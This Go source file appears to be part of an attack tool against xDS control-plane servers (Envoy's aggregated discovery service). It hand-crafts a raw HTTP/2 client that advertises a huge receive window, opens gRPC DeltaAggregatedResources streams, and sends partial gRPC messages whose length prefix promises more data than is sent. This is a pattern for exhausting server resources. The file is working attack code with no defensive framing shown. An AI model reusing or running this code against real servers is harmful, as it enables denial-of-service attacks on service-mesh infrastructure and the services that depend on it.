package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The methods of xDS that the attacks call.
const (
	adsDelta = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
)

// h2 is a connection in HTTP/2, without any library that would behave well. It keeps to the windows
// of the server alone: a server drops the data beyond them at once.
type h2 struct {
	conn    net.Conn
	windows windows
	frames  *http2.Framer
	headers bytes.Buffer
	encoder *hpack.Encoder
	next    uint32 // stream id
}

// http2 opens a connection in HTTP/2.
func (a *attack) http2(ctx context.Context) (*h2, error) {
	conn, err := a.dial(ctx, a.xds)
	if err != nil {
		return nil, err
	}
	h := &h2{conn: conn, frames: http2.NewFramer(conn, conn), windows: newWindows(), next: 1}
	h.encoder = hpack.NewEncoder(&h.headers)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	// A large window: the answers may be as long as they like.
	if err := errors.Join(h.frames.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30}),
		h.frames.WriteWindowUpdate(0, 1<<30)); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	return h, nil
}

// open begins a stream.
func (h *h2) open() (uint32, error) {
	id := h.next
	h.next += 2
	h.headers.Reset()
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: adsDelta},
		{Name: ":authority", Value: "xds"},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
	} {
		if err := h.encoder.WriteField(f); err != nil {
			return 0, err
		}
	}
	return id, h.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.headers.Bytes(), EndHeaders: true})
}

// message sends a gRPC message, or the part of it that is there: size is the length it promises.
func (h *h2) message(id uint32, part []byte, size int) error {
	frame := make([]byte, 5, 5+len(part))
	binary.BigEndian.PutUint32(frame[1:], uint32(size))
	frame = append(frame, part...)
	for len(frame) > 0 {
		n, err := h.windows.take(id, len(frame))
		if err != nil {
			return err
		}
		if err := h.frames.WriteData(id, false, frame[:n]); err != nil {
			return err
		}
		frame = frame[n:]
	}
	return nil
}
